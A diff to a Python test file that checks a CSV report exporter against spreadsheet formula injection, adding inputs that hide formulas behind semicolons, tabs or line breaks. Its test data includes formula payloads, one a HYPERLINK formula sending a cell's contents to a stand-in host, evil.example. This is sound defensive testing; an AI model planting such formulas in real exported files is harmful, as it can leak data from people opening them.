@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+from itertools import chain
 from pathlib import Path
 
 import pytest
@@ -15,7 +17,7 @@ from localrag.evaluation.dataset import Context, Sample
 from localrag.evaluation.metric import JudgeEvidence, Response, Score
 from localrag.evaluation.results import EvaluatedRun, Report
 from localrag.evaluation.scoring import Scored
-from localrag.presentation.csv_table import cell, csv_table
+from localrag.presentation.csv_table import cell, csv_bytes, csv_table
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"see")',
@@ -34,6 +36,22 @@ HOSTILE = [
     "＝1+1",
     "＠SUM(1)",
 ]
+PARTED = [
+    "see annex;=1+1;",
+    "see annex;  ＝1+1",
+    'see annex;"=1+1"',
+    "see annex;\u200b@SUM(1)",
+    "see annex\t-1+1",
+    "first line\n=1+1;x",
+    "first line\r\n+1+1;x",
+    "a;b;c\n;=1+1",
+]
+"""Texts that are several cells where something else than a comma stands between them."""
+
+
+def computed(text: str) -> bool:
+    bare = text.lstrip('\ufeff\u200b\ufffd\x00 \t\u3000"').lstrip()
+    return bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -44,7 +62,7 @@ def test_a_text_that_would_be_computed_is_marked_as_text(text: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["", "a=1", "1-2", "'quoted", "See [1]; a@b", "中文=好", '","=1+1']
+    "text", ["", "a=1", "1-2", "'quoted", "See [1]; a@b; c\nd", "中文=好", '","=1+1']
 )
 def test_other_texts_stay_as_they_are(text: str) -> None:
     assert cell(text) == text
@@ -66,7 +84,7 @@ def test_a_whole_report_is_read_back_with_nothing_to_compute() -> None:
             JudgeEvidence(),
             False,
         )
-        for text in [*HOSTILE, 'He said "no",\nand left.']
+        for text in [*HOSTILE, *PARTED, 'He said "no",\nand left.']
     )
     whole = csv_table(Report("d", "", None, (EvaluatedRun("=run", scored),))).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(whole, newline="")))
@@ -75,12 +93,22 @@ def test_a_whole_report_is_read_back_with_nothing_to_compute() -> None:
     assert len(body) == len(scored)
     for row in body:
         assert (row[-2], row[-1], row[7]) == ("-0.25", "", "1.5")
-        for text in row[:7] + row[8:9]:
-            bare = text.lstrip("\ufeff\u200b\ufffd").lstrip()
-            assert not bare.startswith(("=", "+", "-", "@", "＝", "＠"))
+        assert not any(map(computed, row[:7] + row[8:9]))
     assert body[-1][5] == 'He said "no",\nand left.'
     assert ",-0.25," in whole
     assert '"1.5"' not in whole
+
+
+@pytest.mark.parametrize("separator", [";", "\t"])
+def test_nothing_is_computed_whatever_stands_between_cells(separator: str) -> None:
+    for text in [*HOSTILE, *PARTED]:
+        assert any(map(computed, re.split(r"[;\t\r\n]", text))), "the test would see it"
+        whole = csv_bytes([["File", "What is it?"], ["a.txt", text], [text, "x"], ["x;", text]])
+        lines = whole.decode("utf-8-sig").splitlines(keepends=True)
+        rows = list(csv.reader(lines, delimiter=separator))
+        # Some programs take each line for a row, whatever quotes are open.
+        rows += (line.split(separator) for line in lines)
+        assert not any(map(computed, chain.from_iterable(rows))), text
 
 
 def test_the_command_writes_it(tmp_path: Path) -> None:
